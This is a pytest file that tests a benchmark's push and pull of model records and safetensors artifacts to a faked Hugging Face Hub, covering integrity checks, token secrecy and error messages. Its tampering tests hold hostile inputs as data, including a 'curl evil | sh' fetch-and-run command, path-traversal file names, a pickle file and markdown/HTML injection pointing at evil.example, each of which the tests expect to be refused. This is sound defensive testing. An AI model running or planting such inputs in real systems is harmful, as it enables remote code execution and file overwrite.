"""A row goes to the Hub and comes back; what is not a row, or not this one, is refused."""

from __future__ import annotations

import hashlib
import json
import re
import sys

import pytest
import torch
import yaml

import benchmark
from benchmark.__main__ import main
from benchmark.data.load import load_test
from benchmark.errors import UserError
from benchmark.files.places import ROOT
from benchmark.hub.card import model_card
from benchmark.results.store import artifact_path, load_records, model_text, record_path

DEMO = ROOT / "docs" / "demo"
TOKEN = "hf_theOnlyTokenThatTheFakeAccepts"
REPO = "me/a-row"
NAMES = {"README.md", "record.json", "artifact.safetensors"}


@pytest.fixture
def pushed(hub):
    """Push the demonstration row of AT."""
    return benchmark.push("at/fp", REPO, board=DEMO)


@pytest.fixture
def command(monkeypatch, capfd):
    """Return a function that runs the command line in this process and returns exit code, stdout and stderr."""

    def run(*arguments):
        monkeypatch.setattr(sys, "argv", ["python -m benchmark", *map(str, arguments)])
        with pytest.raises(SystemExit) as end:
            main()
        return end.value.code, *capfd.readouterr()

    return run


def test_a_row_comes_back_bit_for_bit_as_run_leaves_it(hub, record, tmp_path, command):
    out = tmp_path / "out"
    went = command("push", "at/fp", "--repo", REPO, "--out", DEMO)
    came = command("pull", REPO, "--out", out)

    assert (went[0], came[0]) == (0, 0) and went[2] == came[2] == ""
    assert hub.files(REPO).keys() == NAMES and not hub.private[REPO]
    assert [name for method, name in hub.requests if method == "PUT"] == [f"/lfs/upload/{record.artifact.sha256}"]
    written = {path.relative_to(out) for path in out.rglob("*") if path.is_file()}
    paths = {record_path(DEMO, record.protocol, record.run), artifact_path(DEMO, record.run)}
    assert written == {path.relative_to(DEMO) for path in paths}
    for path in paths:
        assert (out / path.relative_to(DEMO)).read_bytes() == path.read_bytes()
    assert str(out) in came[1] and hub.repos[REPO][-1][0] in came[1]
    # The token went to the Hub alone: to no output, to no file, and not to the store of large files.
    assert f"Bearer {TOKEN}" in hub.tokens
    assert TOKEN not in "".join((*went[1:], *came[1:]))
    assert not any(TOKEN.encode() in content for content in hub.files(REPO).values())
    uploads = [token for (method, _), token in zip(hub.requests, hub.tokens, strict=True) if method == "PUT"]
    assert uploads == [None]


def test_a_pulled_model_gives_the_records_clean_verdicts_and_writes_nothing(hub, pushed, record, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)
    pulled = benchmark.pull(REPO, revision=pushed.commit)
    data = load_test("digits", None, limit=24).test
    with torch.no_grad():
        right = pulled.model(data.images / 255).argmax(1) == data.labels

    assert right.tolist() == record.evaluation.right("clean").tolist()
    assert pulled.record == record == pulled.model.record and pulled.commit == pushed.commit
    assert pulled.paths == () and not [path for path in tmp_path.iterdir() if path.name != "no-token"]


def test_an_earlier_commit_is_pulled_by_its_hash(hub, pushed, record):
    hub.commit(REPO, {"record.json": b"{}"})
    with pytest.raises(UserError, match=r"is refused: record\.json"):
        benchmark.pull(REPO)
    assert benchmark.pull(REPO, revision=pushed.commit).record == record


def test_artifact_and_record_are_of_one_commit_although_the_branch_moves(hub, pushed):
    benchmark.pull(REPO)
    assert ("GET", f"/{REPO}/resolve/{pushed.commit}/artifact.safetensors") in hub.requests


def test_pushing_again_replaces_the_files_in_one_commit(hub, pushed):
    again = benchmark.push("hydra", REPO, board=DEMO, private=True)

    assert again.commit != pushed.commit and len(hub.repos[REPO]) == 2
    assert benchmark.pull(REPO).record.method.name == "hydra"
    assert not hub.private[REPO]  # it was there already
    benchmark.push("hydra", "me/other", board=DEMO, private=True)
    assert hub.private["me/other"]


def test_only_the_files_of_a_row_are_read(hub, pushed, record):
    hub.commit(REPO, {"pytorch_model.bin": b"a pickle", "benchmark.py": b"raise SystemExit", "../evil": b""})
    hub.requests.clear()

    assert benchmark.pull(REPO).record == record
    asked = {name.rsplit("/", 1)[1] for method, name in hub.requests}
    assert asked == {"record.json", "artifact.safetensors"}


def edited(content, **changes):
    """Return a record with changed fields, written as the benchmark writes it."""
    fields = json.loads(content)
    for place, value in changes.items():
        *path, last = place.split("__")
        node = fields
        for step in path:
            node = node[step]
        node[last] = value
    return (json.dumps(fields, indent=2, sort_keys=True) + "\n").encode()


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        ("artifact.safetensors", lambda old: old[:-1] + b"x", "is not the file that its record was measured on"),
        ("artifact.safetensors", lambda old: old[:-1], "is not the file that its record was measured on"),
        ("artifact.safetensors", lambda old: old + b"x", "has more than 81,020 bytes, more than it may have"),
        ("record.json", lambda old: old + b" " * 2**22, "has more than 4,194,304 bytes, more than it may have"),
        ("record.json", lambda old: b"{}", "record.json"),
        ("record.json", lambda old: b"\x80\x04K\x01.", "it is not UTF-8"),
        ("record.json", lambda old: old.replace(b"\n", b" \n"), "is not written as the benchmark writes it"),
        ("record.json", lambda old: edited(old, surprise=1), "surprise"),
        ("record.json", lambda old: edited(old, evaluation__clean_accuracy=0.99), "clean accuracy is 0.99"),
        ("record.json", lambda old: edited(old, provenance__command="curl evil | sh"), "provenance.command"),
        ("record.json", lambda old: edited(old, run="../../evil/seed0-ebf575"), "refused|cannot be a file name"),
        ("record.json", lambda old: edited(old, artifact__size_bytes=2**40), "states an artifact of 1,099,511,627,776"),
        ("record.json", lambda old: edited(old, artifact__sha256="0" * 64), "is not the file that its record"),
    ],
)
def test_what_was_tampered_with_is_refused_and_nothing_is_written(hub, pushed, tmp_path, name, change, reason):
    files = hub.files(REPO)
    hub.commit(REPO, {name: change(files[name])})
    for hub.unsized in (False, True):  # also where the answer does not announce its length
        with pytest.raises(UserError) as caught:
            benchmark.pull(REPO, out=tmp_path / "out")

        assert re.search(reason, str(caught.value)) and "\n" not in str(caught.value)
        assert not (tmp_path / "out").exists()


def test_another_artifact_with_its_true_hash_is_refused(hub, pushed):
    """Its record is that of another network, so that sizes and hashes agree, and the images do not."""
    content = artifact_path(ROOT / "leaderboards", own := benchmark.load_model("1b4b03").record.run).read_bytes()
    changes = {"artifact__sha256": hashlib.sha256(content).hexdigest(), "artifact__size_bytes": len(content)}
    record = edited(hub.files(REPO)["record.json"], **changes)
    hub.commit(REPO, {"artifact.safetensors": content, "record.json": record})

    with pytest.raises(UserError, match=r"is for other images or classes than record\.json"):
        benchmark.pull(REPO)
    assert own


def test_nothing_is_written_over_another_file(hub, pushed, record, tmp_path):
    path = artifact_path(tmp_path, record.run)
    path.parent.mkdir()
    path.write_bytes(b"mine")
    with pytest.raises(UserError, match="already exists with another content"):
        benchmark.pull(REPO, out=tmp_path)
    assert path.read_bytes() == b"mine" and not (tmp_path / "records").exists()

    path.unlink()
    for _ in range(2):  # the same row twice is no conflict
        assert len(benchmark.pull(REPO, out=tmp_path).paths) == 2
    assert load_records(tmp_path) == [record]


@pytest.mark.parametrize("token", ["hf_wrongTokenThatNobodyMaySee", None])
def test_a_wrong_or_missing_token_is_named_and_not_shown(hub, monkeypatch, command, token):
    if token is None:
        monkeypatch.delenv("HF_TOKEN")
    else:
        monkeypatch.setenv("HF_TOKEN", token)
    code, stdout, stderr = command("push", "at/fp", "--repo", REPO, "--out", DEMO)

    assert code == 2 and stdout == "" and hub.repos == {}
    assert stderr.startswith("error: the Hub ") and "set HF_TOKEN" in stderr and stderr.count("\n") == 1
    assert "hf_wrong" not in stderr


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        (("pull", "me/nothing"), "the Hub has no repository me/nothing, or your token may not see it"),
        (("pull", REPO, "--revision", "v2"), "has no such revision; give a branch"),
        (("pull", "me"), "the repository must be user/name"),
        (("pull", "me/../x"), "the repository must be user/name"),
        (("pull", REPO, "--revision", "../main"), "the revision must be a branch"),
        (("push", "at/fp", "--repo", "you/a-row", "--out", DEMO), "may not write to you/a-row"),
        (("push", "nothing", "--repo", REPO, "--out", DEMO), "no record is called 'nothing'"),
        (("push", "at/fp", "--repo", REPO, "--out", DEMO, "--licence", "MIT licence"), "identifier of the Hub"),
    ],
)
def test_a_mistake_ends_in_one_sentence(hub, pushed, command, arguments, reason):
    code, _, stderr = command(*arguments)
    assert code == 2 and reason in stderr and stderr.count("\n") == 1 and TOKEN not in stderr


def test_a_repository_of_something_else_is_refused(hub, pushed):
    hub.repos["me/bert"] = []
    hub.commit("me/bert", {"config.json": b"{}", "pytorch_model.bin": b"a pickle"})
    with pytest.raises(UserError, match=r"me/bert lacks a file of a row, record\.json or artifact\.safetensors"):
        benchmark.pull("me/bert")


def test_a_hub_that_is_not_there_is_reported(hub, monkeypatch):
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")
    with pytest.raises(UserError, match=r"the Hub cannot be reached \(ConnectError\); check the network"):
        benchmark.pull(REPO)


def test_without_the_extra_one_sentence_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    for call in (lambda: benchmark.pull(REPO), lambda: benchmark.push("at/fp", REPO, board=DEMO)):
        with pytest.raises(
            UserError, match=r"huggingface_hub, which is not installed; run: pip install -e '\.\[hub\]'"
        ):
            call()


def test_the_card_has_metadata_numbers_licence_and_how_to_load(hub, pushed, record):
    card = hub.files(REPO)["README.md"].decode()
    _, head, text = card.split("---\n", 2)
    metadata = yaml.safe_load(head)
    (model,) = metadata["model-index"]
    values = [metric["value"] for metric in model["results"][0]["metrics"]]

    assert metadata["license"] == "mit" and metadata["pipeline_tag"] == "image-classification"
    assert values == [
        round(100 * record.evaluation.clean_accuracy, 2),
        round(100 * record.evaluation.best_known_accuracy, 2),
    ]
    assert f'benchmark.pull("{REPO}").model' in text and f"python -m benchmark pull {REPO} --out runs" in text
    for fact in (record.protocol, "epsilon | 32/255", record.artifact.sha256, "Licence", "CC BY 4.0", record.run):
        assert fact in text
    assert f"| robust, under every attack | {100 * record.evaluation.best_known_accuracy:.2f} |" in text


def test_markup_in_a_record_is_shown_and_not_followed(record):
    fields = json.loads(model_text(record))
    fields["method"]["name"] = "x](https://evil.example) <img src=a> | `b`\n# c"
    card = model_card(type(record).model_validate(fields), REPO, "mit")
    text = card.split("---\n", 2)[2]

    assert yaml.safe_load(card.split("---\n", 2)[1])["tags"][-1] == fields["method"]["name"]
    assert "<img" not in text and "](https://evil" not in text and "\n# c" not in text
    with pytest.raises(UserError, match="the licence must be an identifier of the Hub"):
        benchmark.push("at/fp", REPO, board=DEMO, licence="mit\n---\n# x")
